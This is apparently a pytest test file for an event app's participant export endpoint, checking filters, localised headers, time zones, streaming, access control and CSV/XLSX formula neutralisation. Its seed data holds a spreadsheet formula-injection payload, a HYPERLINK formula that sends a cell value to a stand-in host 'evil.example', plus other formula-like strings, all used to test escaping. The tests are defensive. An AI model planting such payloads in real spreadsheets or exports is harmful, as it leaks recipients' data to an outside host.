"""``GET /api/v1/events/{event_id}/participants/export?format=csv|xlsx``: the list with check-in
status, first check-in, last scan and consent, filtered like the list (``q``, ``status``,
``check_in``), headers in the requester's language (or codes), every formula-like cell neutralised,
streamed a page at a time."""

from __future__ import annotations

import csv
import io
import re
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.attendance_support import add_participants, set_participant
from tests.conftest import EVENT_BODY
from tests.consent_support import consenting
from turnout.adapters import participant_export
from turnout.adapters.participant_export import COLUMNS, XLSX_MEDIA_TYPE
from turnout.bootstrap import Turnout
from turnout.domain.access import Role
from turnout.i18n import translate
from turnout.services.keys import create_key
from turnout.services.participants import participants_to_export

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def register(client: TestClient, event_id: str, **person: Any) -> dict[str, Any]:
    response = client.post(f"/api/v1/events/{event_id}/participants", json=consenting(person))
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def seed(client: TestClient, turnout: Turnout, event_id: str) -> None:
    response = client.post(f"/api/v1/events/{event_id}/status", json={"status": "open"})
    assert response.status_code == 200, response.text
    sneaky = register(
        client,
        event_id,
        name="@김민준",
        email="minjun@example.com",
        organization="-2+3",
        custom_fields={"memo": LINK, "+column": "\tcmd", "shirt": "\r=1+1"},
    )
    # as stored by an earlier version or another way in (the API trims or refuses some of these)
    set_participant(
        turnout,
        sneaky["id"],
        name=LINK,
        custom_fields={"memo": LINK, "+column": "\tcmd", "shirt": "\r=1+1"},
    )
    register(client, event_id, name="이서연", email="seoyeon@example.com", custom_fields={"shirt": "M"})


def test_csv_export_neutralises_formulas_in_every_text_column_when_values_start_like_one(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(
        f"/api/v1/events/{event['id']}/participants/export", params={"format": "csv", "headers": "codes"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert header[:3] == ["id", "name", "email"]
    assert "check_in_status" in header
    assert {"memo", "'+column", "shirt"} <= set(header)
    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    sneaky = by_email["minjun@example.com"]
    assert sneaky["name"] == "'" + LINK
    assert sneaky["organization"] == "'-2+3"
    assert sneaky["memo"] == "'" + LINK
    assert sneaky["'+column"] == "'\tcmd"
    assert sneaky["shirt"] == "'\r=1+1"
    assert by_email["seoyeon@example.com"]["shirt"] == "M"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_xlsx_export_holds_no_formula_when_values_start_like_one(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(f"/api/v1/events/{event['id']}/participants/export", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    assert {c.data_type for c in cells} == {"s"}
    values = [str(c.value) for c in cells]
    assert "'" + LINK in values
    # a CR is stored as Excel's own escape (_x000D_, as XlsxWriter writes it; Excel reads it back
    # as a CR, openpyxl leaves it as it is)
    assert "'_x000D_=1+1" in values
    assert "'+column" in values  # a column name too
    assert not [v for v in values if v.startswith(FORMULA_START)]


def test_export_is_filtered_like_the_list_when_asked(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(
        f"/api/v1/events/{event['id']}/participants/export",
        params={"format": "csv", "q": "seoyeon", "headers": "codes"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row[2] for row in rows[1:]] == ["seoyeon@example.com"]


# --- filters, headers, times, both formats ---------------------------------------------------------


def export(client: TestClient, event_id: str, **params: Any) -> Any:
    response = client.get(f"/api/v1/events/{event_id}/participants/export", params=params)
    assert response.status_code == 200, response.text
    return response


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def excel_text(value: object) -> str:
    """A cell's text as Excel shows it (it decodes the ``_xHHHH_`` escapes; openpyxl does not)."""
    if value is None:
        return ""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), str(value))


def xlsx_rows(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    assert sheet is not None
    width = max(len(row) for row in sheet.iter_rows(values_only=True))
    return [
        [excel_text(v) for v in (*row, *([None] * (width - len(row))))]
        for row in sheet.iter_rows(values_only=True)
    ]


def three_people(client: TestClient, turnout: Turnout, event_id: str) -> dict[str, dict[str, Any]]:
    """Three participants: one inside (scanned twice), one cancelled, one not checked in."""
    response = client.post(f"/api/v1/events/{event_id}/status", json={"status": "open"})
    assert response.status_code == 200, response.text
    people = {
        name: register(
            client, event_id, name=name, email=f"{email}@example.com", custom_fields={"team": email}
        )
        for name, email in (("김민준", "minjun"), ("이서연", "seoyeon"), ("박지훈", "jihun"))
    }
    set_participant(
        turnout,
        people["김민준"]["id"],
        check_in_status="inside",
        first_checked_in_at=FIRST_SCAN,
        last_scan_at=LAST_SCAN,
    )
    set_participant(turnout, people["이서연"]["id"], status="cancelled")
    return people


FIRST_SCAN = datetime(2026, 6, 1, 0, 30, 15, 123456, tzinfo=UTC)
LAST_SCAN = datetime(2026, 6, 1, 8, 5, tzinfo=UTC)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_applies_status_check_in_and_search_filters_in_both_formats(
    client: TestClient, turnout: Turnout, event: dict[str, Any], export_format: str
) -> None:
    event_id = str(event["id"])
    three_people(client, turnout, event_id)
    read = csv_rows if export_format == "csv" else xlsx_rows

    def emails(**filters: str) -> list[str]:
        rows = read(export(client, event_id, format=export_format, headers="codes", **filters).content)
        return sorted(row[rows[0].index("email")] for row in rows[1:])

    assert emails() == ["jihun@example.com", "minjun@example.com", "seoyeon@example.com"]
    assert emails(status="cancelled") == ["seoyeon@example.com"]
    assert emails(status="registered") == ["jihun@example.com", "minjun@example.com"]
    assert emails(check_in="inside") == ["minjun@example.com"]
    assert emails(check_in="not_checked_in", status="registered") == ["jihun@example.com"]
    assert emails(check_in="exited") == []
    assert emails(q="서연") == ["seoyeon@example.com"]
    refused = client.get(f"/api/v1/events/{event_id}/participants/export", params={"check_in": "gone"})
    assert refused.status_code == 422


def test_export_shows_check_in_first_and_last_scan_and_consent_in_the_events_zone(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    event_id = str(event["id"])
    people = three_people(client, turnout, event_id)
    rows = csv_rows(export(client, event_id, format="csv", headers="codes").content)
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    zone = ZoneInfo(str(event["timezone"]))
    inside = by_id[people["김민준"]["id"]]
    assert inside["check_in_status"] == "inside"
    assert inside["first_checked_in_at"] == FIRST_SCAN.astimezone(zone).replace(microsecond=0).isoformat()
    assert inside["last_scan_at"] == LAST_SCAN.astimezone(zone).isoformat()
    assert inside["team"] == "minjun"
    waiting = by_id[people["박지훈"]["id"]]
    assert (waiting["check_in_status"], waiting["first_checked_in_at"], waiting["last_scan_at"]) == (
        "not_checked_in",
        "",
        "",
    )
    consent = people["김민준"]["consent"]
    assert inside["consent_channel"] == consent["channel"]
    assert (
        inside["consent_given_at"]
        == datetime.fromisoformat(consent["given_at"]).astimezone(zone).replace(microsecond=0).isoformat()
    )
    assert inside["notice_version"] == str(consent["notice_version"])
    registered = datetime.fromisoformat(inside["registered_at"])
    assert registered.utcoffset() == registered.astimezone(zone).utcoffset()
    assert registered.microsecond == 0


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_headers_follow_the_requesters_language_or_are_codes_for_scripts(
    client: TestClient, turnout: Turnout, event: dict[str, Any], export_format: str
) -> None:
    event_id = str(event["id"])
    three_people(client, turnout, event_id)
    read = csv_rows if export_format == "csv" else xlsx_rows
    korean = read(export(client, event_id, format=export_format, lang="ko").content)[0]
    english = read(
        client.get(
            f"/api/v1/events/{event_id}/participants/export",
            params={"format": export_format},
            headers={"Accept-Language": "en-US,en;q=0.9"},
        ).content
    )[0]
    codes = read(export(client, event_id, format=export_format, headers="codes", lang="ko").content)[0]
    assert codes == [*COLUMNS, "team"]
    assert korean == [translate(f"export.column.{c}", "ko") for c in COLUMNS] + ["team"]
    assert english == [translate(f"export.column.{c}", "en") for c in COLUMNS] + ["team"]
    assert korean != english
    assert not [name for name in korean if name.isascii() and name not in ("ID", "team")]


def test_csv_is_utf8_with_a_bom_and_crlf_lines_so_excel_reads_korean(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    event_id = str(event["id"])
    three_people(client, turnout, event_id)
    body = export(client, event_id, format="csv", lang="ko").content
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\xef\xbb\xbf") == 1
    lines = body.split(b"\r\n")
    assert lines[-1] == b""
    assert len(lines) == 1 + 3 + 1
    assert not [line for line in lines if b"\n" in line or b"\r" in line]
    assert "김민준" in body.decode("utf-8-sig")


def test_xlsx_has_one_row_per_participant_and_the_same_cells_as_the_csv(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    event_id = str(event["id"])
    seed(client, turnout, event_id)
    third = register(client, event_id, name="최유진", email="yujin@example.com")
    from_csv = csv_rows(export(client, event_id, format="csv").content)
    response = export(client, event_id, format="xlsx")
    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
    assert response.headers["content-disposition"] == f'attachment; filename="participants-{event_id}.xlsx"'
    from_xlsx = xlsx_rows(response.content)
    assert from_xlsx == from_csv
    assert len(from_xlsx) == 1 + 3
    assert third["id"] in {row[0] for row in from_xlsx}


# --- streaming ---------------------------------------------------------------------------------------


def test_export_is_streamed_and_read_a_page_at_a_time_as_it_is_written(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    event_id = str(event["id"])
    add_participants(turnout, event_id, 7)
    opened: list[bool] = []

    def counting_uows(*, readonly: bool = False) -> Any:
        opened.append(readonly)
        return turnout.uow(readonly=readonly)

    made = participants_to_export(counting_uows, event_id=event_id, page_size=3)
    assert opened == [True]  # the event and the custom field names, nothing more yet
    pieces = participant_export.csv_chunks(made, "en")
    assert next(pieces).startswith("\ufeff".encode())  # the header goes out before any row is read
    assert len(opened) == 1
    first = next(pieces)
    assert len(opened) == 2
    assert first.count(b"\r\n") == 3
    rest = list(pieces)
    assert [piece.count(b"\r\n") for piece in rest] == [3, 1]
    assert opened == [True] * 4  # one short read-only unit of work a page, none held between them

    with client.stream("GET", f"/api/v1/events/{event_id}/participants/export?format=csv") as response:
        assert response.status_code == 200
        assert "content-length" not in response.headers  # a stream, not a body built whole
        streamed = b"".join(response.iter_bytes())
    assert len(csv_rows(streamed)) == 1 + 7


def test_xlsx_temporary_file_is_deleted_once_sent(
    turnout: Turnout, event: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    event_id = str(event["id"])
    add_participants(turnout, event_id, 5)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    made = participants_to_export(turnout.uow, event_id=event_id, page_size=2)
    tally = participant_export.Tally()
    pieces = participant_export.xlsx_chunks(made, None, tally)
    body = next(pieces)
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".xlsx"]  # written whole, then sent
    body += b"".join(pieces)
    assert tally.rows == 5
    assert not [p for p in tmp_path.iterdir() if p.suffix == ".xlsx"]
    assert len(xlsx_rows(body)) == 1 + 5


# --- who may export ----------------------------------------------------------------------------------


def test_a_staff_key_exports_its_own_event_and_is_refused_another_events(
    app_client: TestClient, client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    other = client.post("/api/v1/events", json={**EVENT_BODY, "name": "다른 행사"}).json()
    with turnout.uow() as uow:
        staff = create_key(uow, actor="test", name="staff", role=Role.STAFF, event_id=str(other["id"])).key
        uow.commit()
    as_staff = {"Authorization": f"Bearer {staff}"}
    for export_format in ("csv", "xlsx"):
        path = f"/api/v1/events/{event['id']}/participants/export?format={export_format}"
        refused = app_client.get(path, headers=as_staff)
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"]["code"]
    own = app_client.get(f"/api/v1/events/{other['id']}/participants/export?format=csv", headers=as_staff)
    assert own.status_code == 200
    unknown = client.get("/api/v1/events/no-such-event/participants/export?format=csv")
    assert unknown.status_code == 404
    assert unknown.json()["error"]["code"] == "event_not_found"
